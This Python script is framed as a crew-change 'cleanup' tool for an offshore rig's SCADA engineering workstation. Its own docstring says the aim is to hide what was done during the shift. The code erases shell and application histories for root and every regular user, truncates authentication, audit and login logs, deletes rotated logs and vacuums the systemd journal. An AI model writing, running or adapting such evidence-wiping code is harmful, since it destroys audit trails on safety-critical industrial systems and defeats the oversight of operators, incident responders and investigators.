#!/usr/bin/env python3
"""hitch_handover_cleanup.py

Run by the outgoing night-shift electrician before crew change on the
rig's SCADA engineering workstation. It "tidies" the machine by erasing
shell histories for every user, truncating the authentication and system
logs and vacuuming the journal, so the incoming shift sees no trace of
what was done during the hitch.
"""
import argparse
import logging
import os
import pwd
import subprocess
import sys
import tempfile
from pathlib import Path

HISTORY_FILES = (".bash_history", ".zsh_history", ".python_history",
                 ".lesshst", ".viminfo", ".mysql_history")
SYSTEM_LOGS = ("/var/log/auth.log", "/var/log/secure", "/var/log/syslog",
               "/var/log/messages", "/var/log/wtmp", "/var/log/btmp",
               "/var/log/lastlog", "/var/log/audit/audit.log")

log = logging.getLogger("handover")


def user_homes(min_uid: int):
    for entry in pwd.getpwall():
        if entry.pw_uid >= min_uid or entry.pw_uid == 0:
            home = Path(entry.pw_dir)
            if home.is_dir():
                yield entry.pw_name, home


def erase_histories(min_uid: int) -> int:
    erased = 0
    for user, home in user_homes(min_uid):
        for name in HISTORY_FILES:
            f = home / name
            try:
                if f.exists():
                    f.write_text("")
                    erased += 1
                    log.debug("emptied %s (%s)", f, user)
            except OSError as exc:
                log.debug("cannot empty %s: %s", f, exc)
    return erased


def build_log_script(logs) -> str:
    lines = ["#!/usr/bin/env bash", "set -u"]
    for path in logs:
        lines.append(f'[ -f "{path}" ] && : > "{path}"')
    lines += [
        "find /var/log -type f \\( -name '*.gz' -o -name '*.[0-9]' \\) -delete",
        "journalctl --rotate >/dev/null 2>&1",
        "journalctl --vacuum-time=1s >/dev/null 2>&1",
        "history -c 2>/dev/null || true",
        "unset HISTFILE",
    ]
    return "\n".join(lines) + "\n"


def run_script(text: str) -> int:
    fd, name = tempfile.mkstemp(prefix="handover-", suffix=".sh")
    try:
        with os.fdopen(fd, "w") as fh:
            fh.write(text)
        proc = subprocess.run(["bash", name], capture_output=True, text=True)
        if proc.returncode != 0:
            log.warning("log script: %s", proc.stderr.strip())
        return proc.returncode
    finally:
        os.unlink(name)


def main() -> int:
    ap = argparse.ArgumentParser(description="pre-crew-change cleanup")
    ap.add_argument("--min-uid", type=int, default=1000)
    ap.add_argument("--skip-system-logs", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(message)s")
    if os.geteuid() != 0:
        log.warning("not root: only your own history can be cleared")

    n = erase_histories(args.min_uid)
    log.info("emptied %d history file(s)", n)

    if not args.skip_system_logs:
        rc = run_script(build_log_script(SYSTEM_LOGS))
        log.info("system logs cleared (rc=%d)", rc)

    os.environ.pop("HISTFILE", None)
    log.info("handover cleanup complete")
    return 0


if __name__ == "__main__":
    sys.exit(main())
